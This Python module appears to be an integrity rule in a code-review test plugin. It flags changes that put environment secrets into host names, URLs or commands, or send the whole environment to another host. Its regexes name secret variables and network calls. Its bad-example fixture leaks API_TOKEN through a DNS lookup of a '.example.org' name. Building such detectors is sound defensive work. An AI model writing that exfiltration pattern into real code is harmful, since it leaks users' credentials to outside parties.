"""Secrets of the environment that leave in a name, an address or a command. Pure."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from pytest_agentgate.checks.integrity.names import Names, walk
from pytest_agentgate.checks.integrity.rule import Hit, RuleSet
from pytest_agentgate.checks.integrity.view import Source, View
from pytest_agentgate.rulebook import Rule, one

SECRET = re.compile(
    r"(?!.*_(URL|HOST|FILE|PATH|SOCK|MODE|DOMAIN|STORE|NAME|ID|DIR)$)(.*_)?(API_?|ACCESS_|PRIVATE_|SECRET_|SIGNING_|ENCRYPTION_)?(KEY|TOKEN|PAT|SECRETS?|PASSWORD|PASSWD|CREDENTIALS?|PGPASSWORD)(_\w+)?",
    re.IGNORECASE,
)
"""Names of variables that hold what nobody else may know."""
ASKS = frozenset({"os.getenv", "os.environ.get", "os.environ.__getitem__", "os.environ.pop"})
SENDS = re.compile(
    r"socket\.(getaddrinfo|gethostbyname(_ex)?|gethostbyaddr|create_connection)|urllib\.request\.(urlopen|urlretrieve|Request)|"
    r"(requests|httpx)\.(get|post|put|patch|head|delete|options|request|stream)|http\.client\.HTTPS?Connection|webbrowser\.open|"
    r"subprocess\.(run|Popen|call|check_call|check_output)|os\.(system|popen)"
)
"""Functions of which the first argument is a host, an address or a command: it is seen on the way, logged and kept."""
NET = re.compile(r"(socket|urllib\.request|urllib3|requests|httpx2?|aiohttp|http\.client|smtplib|websockets?)\.")
"""Modules that speak to other hosts."""
HANDS_OVER = frozenset(
    {"request", "send", "sendall", "sendto", "post", "put", "patch", "get", "urlopen", "sendmail", "send_message"}
)
ADDRESS = frozenset({"url", "args", "params", "host"})
KEEPS = re.compile(r"(str|repr|json\.dumps|base64\.\w+|urllib\.parse\.\w+|binascii\.hexlify)")
SHAPES = frozenset(
    {
        "lower",
        "upper",
        "format",
        "strip",
        "join",
        "encode",
        "decode",
        "replace",
        "hex",
        "removesuffix",
        "removeprefix",
        "items",
        "values",
        "copy",
    }
)
"""What hands a text on in another shape; what comes of any other call is an answer, and no secret."""


def find(view: View) -> Iterator[Hit]:
    """New lines of the product that put a secret into what they ask for."""
    for pair in view.python("product"):
        if pair.new is None or pair.new.tree is None or (b"environ" not in pair.new.data and b"getenv" not in pair.new.data):
            continue
        names = pair.new.names
        calls = [c for c in pair.new.of(ast.Call) if pair.change.touches(c.lineno) and SENDS.fullmatch(names.dotted(c.func))]
        held: dict[ast.AST | None, set[str]] = {}
        for call in calls:
            owner = names.around(call)
            if owner not in held:
                held[owner] = _held(owner, pair.new)
            given = [*call.args[:1], *(k.value for k in call.keywords if k.arg in ADDRESS)]
            if any(_is_secret(value, names, held[owner]) for value in given):
                words = f"{names.dotted(call.func)} gets a secret of the environment as a part of what it asks for"
                yield Hit(RULE.id, words, pair.path, call.lineno, pair.new.line(call.lineno))
        known = {line.strip() for line in pair.old.lines} if pair.old else set()
        for owner in {names.around(c): None for c in pair.new.of(ast.Call) if NET.match(names.dotted(c.func))}:
            line, taken = _everything(owner, pair.new)
            if line and any(pair.change.touches(n) and pair.new.line(n).strip() not in known for n in (line, *taken)):
                words = "the whole environment, keys and all, is sent to another host"
                yield Hit(RULE.id, words, pair.path, line, pair.new.line(line))


def _everything(owner: ast.AST | None, source: Source) -> tuple[int, list[int]]:
    """The line in which a function that speaks to a host sends all variables of the environment, or 0; and where it took them."""
    names, held, taken = source.names, set[str](), list[int]()
    nodes = list(walk([owner])) if owner is not None else list(source.nodes)
    kinds = ast.Assign | ast.AnnAssign | ast.AugAssign | ast.Call | ast.For
    for node in sorted((n for n in nodes if isinstance(n, kinds)), key=lambda n: n.lineno):
        if isinstance(node, ast.Call):
            given = [*node.args, *(k.value for k in node.keywords)]
            sends = NET.match(names.dotted(node.func)) or (isinstance(node.func, ast.Attribute) and node.func.attr in HANDS_OVER)
            if sends and _holds(given, names, held):
                return node.lineno, taken
            fills = (
                isinstance(node.func, ast.Attribute) and node.func.attr == "update" and any(_is_environ(a, names) for a in given)
            )
            owners = [node.func.value] if fills and isinstance(node.func, ast.Attribute) else []
        else:
            value = node.iter if isinstance(node, ast.For) else node.value
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            owners = [t for t in targets if isinstance(t, ast.expr)] if value is not None and _holds([value], names, held) else []
        if found := {n.id for o in owners for n in walk([o]) if isinstance(n, ast.Name)}:
            held |= found
            taken.append(node.lineno)
    return 0, taken


def _holds(given: list[ast.expr], names: Names, held: set[str]) -> bool:
    return any(_is_whole(n, names) or (isinstance(n, ast.Name) and n.id in held) for n in walk(given))


def _is_environ(node: ast.AST | None, names: Names) -> bool:
    return isinstance(node, ast.Attribute | ast.Name) and names.dotted(node) == "os.environ"


def _is_whole(node: ast.AST, names: Names) -> bool:
    """Whether a node makes a text or a table of all variables: what a function is given that asks for one is none."""
    if isinstance(node, ast.Dict):
        return any(k is None and _is_environ(v, names) for k, v in zip(node.keys, node.values, strict=True))
    if not isinstance(node, ast.Call):
        return False
    if isinstance(node.func, ast.Attribute) and node.func.attr in ("copy", "items", "values"):
        return _is_environ(node.func.value, names)
    return (names.dotted(node.func) == "dict" or bool(KEEPS.fullmatch(names.dotted(node.func)))) and any(
        _is_environ(a, names) for a in node.args
    )


def _held(owner: ast.AST | None, source: Source) -> set[str]:
    """Names of one function that are given a secret, or something made of one."""
    nodes = walk([owner]) if owner is not None else source.nodes
    assigned: list[tuple[str, ast.expr]] = []
    for node in nodes:
        targets = (
            node.targets
            if isinstance(node, ast.Assign)
            else [node.target]
            if isinstance(node, ast.AnnAssign | ast.AugAssign | ast.NamedExpr)
            else []
        )
        value = getattr(node, "value", None)
        assigned += [(t.id, value) for t in targets if isinstance(t, ast.Name) and isinstance(value, ast.expr)]
    found: set[str] = set()
    for _ in range(4):  # names that are made of names
        more = {name for name, value in assigned if name not in found and _is_secret(value, source.names, found)}
        if not more:
            break
        found |= more
    return found


def _asks(node: ast.AST, names: Names) -> bool:
    """Whether a node is a secret of the environment, or all of it as a text."""
    if isinstance(node, ast.Subscript):
        return names.dotted(node.value) == "os.environ" and bool(SECRET.fullmatch(names.text(node.slice) or ""))
    if isinstance(node, ast.FormattedValue):
        return names.dotted(node.value) == "os.environ"
    if not isinstance(node, ast.Call) or not node.args:
        return False
    called = names.dotted(node.func)
    if called in ASKS:
        return bool(SECRET.fullmatch(names.text(node.args[0]) or ""))
    return bool(KEEPS.fullmatch(called)) and any(names.dotted(a) == "os.environ" for a in node.args)


def _is_secret(value: ast.AST, names: Names, held: set[str]) -> bool:
    """Whether a text is a secret, or is made of one."""
    waiting = [value]
    while waiting:
        node = waiting.pop()
        if isinstance(node, ast.Name) and node.id in held:
            return True
        if _asks(node, names):
            return True
        if isinstance(node, ast.Call):
            called = names.dotted(node.func)
            if called in ASKS:
                continue
            if KEEPS.fullmatch(called):
                waiting += node.args
            elif called == "urllib.request.Request":
                waiting += node.args[:1]
            elif isinstance(node.func, ast.Attribute) and node.func.attr in SHAPES:
                waiting += [node.func.value, *node.args]
        elif isinstance(node, ast.IfExp):
            waiting += [node.body, node.orelse]
        elif isinstance(
            node, ast.BinOp | ast.BoolOp | ast.JoinedStr | ast.FormattedValue | ast.List | ast.Tuple | ast.Dict | ast.Starred
        ):
            waiting += ast.iter_child_nodes(node)
    return False


_CODE = "def ask(name):\n    return name\n"
_BAD, _GOOD = one(
    "ask.py",
    (_CODE, "import os\nimport socket\n\n\ndef ask(name):\n    socket.getaddrinfo(os.environ['API_TOKEN'] + '.example.org', 80)\n    return name\n"),
    (_CODE, "import os\nimport socket\n\n\ndef ask(name):\n    socket.getaddrinfo(os.environ['API_HOST'], 80)\n    return name\n"),
)  # fmt: skip
RULE = Rule(
    "integrity/secret-leaves",
    "hold",
    "A secret of the environment becomes part of a host, an address or a command",
    "Whoever serves the name, or keeps a log on the way, learns it. Programs send keys in headers (`headers=`), and hand variables to other programs "
    "as their environment.",
    _BAD,
    _GOOD,
    "Send it in a header over TLS, or hand it on as a variable. A human allows it: `--approve integrity/secret-leaves:PATH`.",
)
SET = RuleSet((RULE,), find)
